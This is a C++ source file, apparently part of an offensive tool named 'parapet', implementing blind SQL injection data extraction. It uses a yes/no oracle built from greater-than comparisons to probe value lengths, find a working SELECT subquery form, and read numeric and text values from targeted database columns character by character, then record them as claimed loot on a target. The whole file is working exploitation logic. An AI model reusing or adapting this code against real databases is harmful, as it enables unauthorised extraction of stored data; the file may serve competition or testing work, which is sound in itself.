#include "core/attack/loot.h"

#include "core/attack/reader.h"

namespace parapet::attack {
namespace {

constexpr std::size_t kLongestValue = 64;  // characters read of one value

bool readable(Oracle const& oracle, std::string const& expression) {
    std::string const length = "length(" + expression + ")";
    return oracle.ask(oracle.greater(length, "0")) && !oracle.ask(oracle.greater(length, "99999"));
}

bool take(Oracle const& oracle, std::string const& expression, std::string const& what) {
    if (!readable(oracle, expression)) return false;
    std::string const value = read_text(oracle, expression, kLongestValue);
    if (value.empty()) return false;
    Target& target = oracle.entry().target();
    target.note("Letter by letter: a value of " + what + ".");
    target.claim(value);
    return true;
}

void take_wanted(Oracle const& oracle) {
    std::vector<Column> const wanted = wanted_columns(oracle.entry().target().surface());
    std::optional<Spelling> const spelling =
        find_spelling(oracle, "(SELECT max(41) FROM (SELECT 1))");
    for (Column const& each : wanted) {
        // Without SELECT only the statement's own columns are in reach.
        std::string const expression =
            spelling ? spelling->write("(SELECT max(" + each.column + ") FROM " + each.table + ")")
                     : each.column;
        if (take(oracle, expression, each.table + "." + each.column)) return;
    }
}

}  // namespace

std::optional<Spelling> find_spelling(Oracle const& oracle, std::string_view expression) {
    for (Spelling const& spelling : spellings()) {
        std::string const spelled = spelling.write(expression);
        if (oracle.ask(oracle.greater(spelled, "40")) && !oracle.ask(oracle.greater(spelled, "41")))
            return spelling;
    }
    return std::nullopt;
}

// The puzzle first: it takes fewer questions than a text, and some ways in close after so many (a
// stock that runs out).
bool loot_by_bits(Oracle const& oracle) {
    Target& target = oracle.entry().target();
    std::optional<std::uint64_t> const value = read_number(oracle, target.puzzle());
    if (!value) return false;
    target.note("The database answers yes or no through " + oracle.entry().name() + ", told by " +
                std::string(oracle.told_by()) + ".");
    target.claim(std::to_string(*value));
    take_wanted(oracle);
    return true;
}

}  // namespace parapet::attack
